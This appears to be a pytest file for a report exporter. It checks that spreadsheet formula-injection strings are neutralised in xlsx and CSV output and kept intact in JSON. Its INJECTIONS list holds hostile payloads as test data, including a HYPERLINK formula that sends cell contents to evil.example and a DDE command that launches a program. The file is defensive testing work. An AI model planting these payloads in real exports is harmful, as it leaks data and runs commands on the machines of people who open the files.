"""Report exports: formula neutralising, and xlsx/csv/json read back with real readers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import orjson
import pytest
from python_calamine import CalamineWorkbook

from conveyor.content import Finding, Record
from conveyor.reports import JobReport, neutralise, write_csv, write_json, write_xlsx

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        (-2, -2),
        (-2.5, -2.5),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width =
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM", "'\uff20SUM"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (True, True),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    result = neutralise(value)
    assert result == expected
    assert type(result) is type(expected)


def report(records: list[Record], findings: list[Finding], pipeline: str = "records") -> JobReport:
    return JobReport(job_id=7, pipeline=pipeline, records=lambda: records, findings=lambda: findings)


def hostile_report() -> JobReport:
    records = [
        Record("record", {"id": n, "text": text, "n": -2, "day": "2024-03-01"}, str(n))
        for n, text in enumerate(INJECTIONS)
    ]
    records.append(Record("record", {"id": 99, "extra": ["=1", {"a": 1}], "at": "2024-03-01T08:30:00"}, "99"))
    records.append(Record("week", {"total": 12.5, "ok": True}, "w1"))
    findings = [Finding("quarantined", "warning", "=1+2 looks odd", "-row 3")]
    return report(records, findings)


def column_widths(xml: str) -> list[float]:
    """The width of each column, from ``<col min max width>`` (adjacent equal widths share one)."""
    widths: list[float] = []
    for low, high, width in re.findall(r'<col min="(\d+)" max="(\d+)" width="([\d.]+)"', xml):
        widths += [float(width)] * (int(high) - int(low) + 1)
    return widths


def xlsx_bytes(job: JobReport) -> bytes:
    stream = io.BytesIO()
    write_xlsx(job, stream)
    return stream.getvalue()


def test_xlsx_keeps_injections_as_apostrophed_text_and_writes_no_formula() -> None:
    data = xlsx_bytes(hostile_report())
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == ["record", "Weeks", "Findings"]
    rows = book.get_sheet_by_name("record").to_python()
    assert rows[0] == ["key", "id", "text", "n", "day", "extra", "at"]
    texts = [row[2] for row in rows[1 : 1 + len(INJECTIONS)]]
    assert texts == ["'" + text for text in INJECTIONS]
    assert rows[1][3] == -2  # a number stays a number
    assert rows[1][4] == dt.date(2024, 3, 1)
    last = rows[-1]
    assert last[5] == '["=1",{"a":1}]'  # JSON text, starts with "[" so no apostrophe
    assert last[6] == dt.datetime(2024, 3, 1, 8, 30)
    assert book.get_sheet_by_name("Weeks").to_python() == [["key", "total", "ok"], ["w1", 12.5, True]]
    assert book.get_sheet_by_name("Findings").to_python() == [
        ["rule", "severity", "message", "ref"],
        ["quarantined", "warning", "'=1+2 looks odd", "'-row 3"],
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3
        for name in sheets:
            xml = archive.read(name).decode()
            assert not re.search(r"<f[ >]", xml), name
            assert '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>' in xml
            assert "<autoFilter ref=" in xml
        first = archive.read("xl/worksheets/sheet1.xml").decode()
        assert '<autoFilter ref="A1:G10"/>' in first
        widths = column_widths(first)
        assert len(widths) == 7
        assert max(widths) <= 61  # capped (Excel adds padding to the set width)
        assert widths[2] > widths[3]  # text wider than the short number column


def test_xlsx_caps_wide_columns_and_keeps_huge_integers_exact() -> None:
    records = [Record("record", {"long": "x" * 500, "big": 2**60}, "1")]
    data = xlsx_bytes(report(records, []))
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("record").to_python()
    assert rows[1][2] == str(2**60)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    widths = column_widths(xml)
    assert 60 <= widths[1] <= 61


def test_csv_round_trips_with_bom_and_neutralised_text() -> None:
    stream = io.BytesIO()
    write_csv(hostile_report(), stream)
    raw = stream.getvalue()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["kind", "key", "id", "text", "n", "day", "extra", "at", "total", "ok"]
    assert [row[3] for row in rows[1 : 1 + len(INJECTIONS)]] == ["'" + text for text in INJECTIONS]
    assert rows[1][4] == "-2"  # a number is written as is
    assert rows[-2][6] == '["=1",{"a":1}]'
    assert rows[-1] == ["week", "w1", "", "", "", "", "", "", "12.5", "true"]
    assert len(rows) == 1 + len(INJECTIONS) + 2


def test_csv_of_a_timecard_job_holds_only_its_entries() -> None:
    records = [
        Record("entry", {"employee": "Ann", "hours": 8}, "e1"),
        Record("week", {"employee": "Ann", "total_pay": 100}, "w1"),
    ]
    stream = io.BytesIO()
    write_csv(report(records, [], pipeline="timecard"), stream)
    rows = list(csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))
    assert rows == [["kind", "key", "employee", "hours"], ["entry", "e1", "Ann", "8"]]


def test_json_keeps_values_intact() -> None:
    stream = io.BytesIO()
    write_json(hostile_report(), stream)
    document = orjson.loads(stream.getvalue())
    assert document["job_id"] == 7
    assert document["pipeline"] == "records"
    assert [record["data"].get("text") for record in document["records"][: len(INJECTIONS)]] == INJECTIONS
    assert document["records"][0] == {
        "kind": "record",
        "key": "0",
        "data": {"id": 0, "text": INJECTIONS[0], "n": -2, "day": "2024-03-01"},
    }
    assert document["findings"] == [
        {"rule": "quarantined", "severity": "warning", "message": "=1+2 looks odd", "ref": "-row 3"}
    ]


def test_an_empty_job_still_gives_a_findings_sheet_with_its_header() -> None:
    data = xlsx_bytes(report([], []))
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == ["Findings"]
    assert book.get_sheet_by_name("Findings").to_python() == [["rule", "severity", "message", "ref"]]
